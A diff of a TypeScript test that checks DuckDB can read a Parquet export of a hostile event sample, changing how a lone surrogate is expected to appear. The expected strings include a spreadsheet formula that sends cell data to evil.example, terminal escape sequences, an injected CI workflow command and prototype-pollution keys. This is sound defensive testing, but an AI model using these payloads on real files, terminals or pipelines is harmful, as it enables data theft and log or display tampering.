@@ -159,7 +159,7 @@ describe("DuckDB reads export --format parquet", { timeout: TIMEOUT }, () => {
     expectRowMatches(rows[2] as Record<string, unknown>, day4.groups.get("outbound"));
   });
 
-  it("hostile.ndjson per event: JSON columns, exact strings (NUL, escapes, formulas), a lone surrogate as \\ud800", async () => {
+  it("hostile.ndjson per event: JSON columns, exact strings (NUL, escapes, formulas), a lone surrogate as U+FFFD", async () => {
     const file = join(tmp, "hostile-events.parquet");
     await ok(["export", "--events", "samples/hostile.ndjson", "--format", "parquet", "-o", file]);
     const types = await duck(
@@ -183,7 +183,7 @@ describe("DuckDB reads export --format parquet", { timeout: TIMEOUT }, () => {
     expect(values).toContain("t\u0000x");
     expect(values).toContain('=HYPERLINK("http://evil.example/?d="&A1,"click")');
     expect(values).toContain("s-5-\u001b]0;pwned\u0007-\u001b[2J");
-    expect(values).toContain("s-7-%0A::add-mask::x,y:z-\\ud800");
+    expect(values).toContain("s-7-%0A::add-mask::x,y:z-\ufffd");
     expect(rows.map((row) => row.extra_keys)).toContainEqual(["__proto__", "constructor"]);
   });
 });
